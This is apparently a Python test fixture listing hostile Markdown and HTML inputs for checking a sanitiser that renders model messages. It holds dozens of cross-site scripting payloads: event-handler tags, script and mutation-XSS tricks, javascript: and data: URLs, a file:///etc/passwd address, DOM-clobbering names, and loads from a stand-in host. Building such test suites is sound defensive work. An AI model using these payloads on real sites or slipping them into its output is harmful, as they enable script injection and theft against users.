"""What hostile Markdown tries, by kind of trick. Whatever is run sets `window.hit`; whatever is fetched is asked of elsewhere.example."""

from __future__ import annotations

RUN = 'window.hit=1'
ELSEWHERE = 'https://elsewhere.example'

HANDLERS = [
    f'<{tag} {attribute}={RUN}>'
    for tag, attribute in (
        ('body', 'onload'),
        ('img src=x', 'onerror'),
        ('img src=x', 'oNeRRoR'),
        ('image src=x', 'onerror'),
        ('video src=x', 'onerror'),
        ('audio src=x', 'onerror'),
        ('video><source', 'onerror'),
        ('svg', 'onload'),
        ('svg><set attributeName=x', 'onbegin'),
        ('details open', 'ontoggle'),
        ('marquee', 'onstart'),
        ('input autofocus', 'onfocus'),
        ('select autofocus', 'onfocus'),
        ('textarea autofocus', 'onfocus'),
        ('button popovertarget=x', 'onclick'),
        ('div tabindex=1 autofocus', 'onfocus'),
        ('div style="animation:x 1s" ', 'onanimationstart'),
        ('object data=x', 'onerror'),
        ('link rel=stylesheet href=x', 'onerror'),
        ('style', 'onload'),
        ('iframe src=x', 'onload'),
        ('img/src=x/', 'onerror'),
        ('img src=x title=">" ', 'onerror'),
    )
]

SCRIPTS = [
    f'<script>{RUN}</script>',
    f'<SCRIPT/x>{RUN}</SCRIPT>',
    f'<<script>{RUN}//<</script>',
    f'<script src={ELSEWHERE}/x.js></script>',
    f'<script type=module>import "{ELSEWHERE}/x.js"</script>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<template><script>{RUN}</script></template>',
    f'<textarea></textarea><script>{RUN}</script>',
    f'<title></title><script>{RUN}</script>',
    f'<!--><script>{RUN}</script>-->',
    f'<!--{"-" * 3}!><img src=x onerror={RUN}>',
    f'<![CDATA[><img src=x onerror={RUN}>]]>',
    f'<?xml version="1.0"?><script>{RUN}</script>',
    f'<math><mi//xlink:href="data:x,<script>{RUN}</script>">',
    f'<svg><script>{RUN}</script></svg>',
    f'<svg><style><img src=x onerror={RUN}></style></svg>',
    f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>',
    f'<table><td background="javascript:{RUN}">',
    f'<div style="background:url(javascript:{RUN})">',
    f'<embed src="javascript:{RUN}"><applet code=x><frameset onload={RUN}>',
    f'<portal src="javascript:{RUN}"></portal>',
    f'<button form=x formaction="javascript:{RUN}">x</button>',
    f'<a href="javascript:{RUN}">x</a><area href="javascript:{RUN}">',
]

FETCHES = [
    f'<link rel=import href="{ELSEWHERE}/x">',
    f'<link rel=prefetch href="{ELSEWHERE}/x"><link rel=dns-prefetch href="//elsewhere.example">',
    f'<style>@import "{ELSEWHERE}/x.css";</style>',
    f'<style>body{{background:url({ELSEWHERE}/x)}}</style>',
    f'<img src={ELSEWHERE}/x srcset="{ELSEWHERE}/y 2x">',
    f'<picture><source srcset={ELSEWHERE}/x><img></picture>',
    f'<video poster={ELSEWHERE}/x autoplay><track src={ELSEWHERE}/y>',
    f'<input type=image src={ELSEWHERE}/x>',
    f'<body background={ELSEWHERE}/x>',
    f'<svg><image href={ELSEWHERE}/x /><use href={ELSEWHERE}/x#y /></svg>',
    f'<a href={ELSEWHERE} ping={ELSEWHERE}/ping>x</a>',
    f'![x]({ELSEWHERE}/a "title") ![y][image] [![z]({ELSEWHERE}/b)]({ELSEWHERE})\n\n[image]: {ELSEWHERE}/c',
    f'![x](<{ELSEWHERE}/d\n>) ![](//elsewhere.example/e) ![](\\\\elsewhere.example\\f)',
]

ADDRESSES = [
    'javascript:window.hit=1',
    'JAVASCRIPT:window.hit=1',
    'javascript&colon;window.hit=1',
    'java&Tab;script:window.hit=1',
    'java&NewLine;script:window.hit=1',
    '&#x6A;avascript:window.hit=1',
    '&#0000106avascript:window.hit=1',
    'java\\script:window.hit=1',
    'javascript%3Awindow.hit=1',
    '<javascript:window.hit=1>',
    '\u00a0javascript:window.hit=1',
    '\u2028javascript:window.hit=1',
    'feed:javascript:window.hit=1',
    'view-source:javascript:window.hit=1',
    'jar:javascript:window.hit=1',
    'javascript://elsewhere.example/%0Awindow.hit=1',
    'livescript:window.hit=1',
    'data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=',
    'data:image/svg+xml,<svg onload=window.hit=1>',
    'blob:http://127.0.0.1/x',
    'filesystem:http://127.0.0.1/x',
    'file:///etc/passwd',
    'about:blank',
    'intent://x#Intent;end',
    'ms-settings:x',
    'ws://elsewhere.example',
]

NAMES = [
    f'<{tag} {attribute}={name}>'
    for tag, attribute in (('img', 'name'), ('form', 'id'), ('a', 'id'))
    for name in (
        'app',
        'body',
        'cookie',
        'getElementById',
        'querySelector',
        'documentElement',
        '__proto__',
        'constructor',
    )
]

MARKDOWN = [
    '```<img src=x onerror=window.hit=1>\ncode\n```',
    '``` "onmouseover=window.hit=1" x\ncode\n```',
    '# <img src=x onerror=window.hit=1> {#"onload=window.hit=1}',
    '[x](https://example.com "\\" onclick=window.hit=1 \\"")',
    '[<img src=x onerror=window.hit=1>](https://example.com)',
    '[x](https://example.com/"onclick="window.hit=1)',
    '<https://example.com/"onclick="window.hit=1>',
    '<javascript:window.hit=1>',
    '[^1]\n\n[^1]: <img src=x onerror=window.hit=1>',
    '- [ ] <script>window.hit=1</script>',
    '$$<img src=x onerror=window.hit=1>$$',
    '&lt;script&gt;window.hit=1&lt;/script&gt; &amp;lt;img src=x onerror=window.hit=1&amp;gt;',
    '\\<script>window.hit=1\\</script>',
    '`<script>window.hit=1</script>`',
]

MESSAGES = [
    *('\n\n'.join(kind) for kind in (HANDLERS, SCRIPTS, FETCHES, NAMES, MARKDOWN)),
    '\n\n'.join(f'[x]({address}) ![y]({address})' for address in ADDRESSES),
    '\n\n'.join(f'[{n}]\n\n[{n}]: {address}' for n, address in enumerate(ADDRESSES)),
]
"""All of it, in a few messages of a model."""
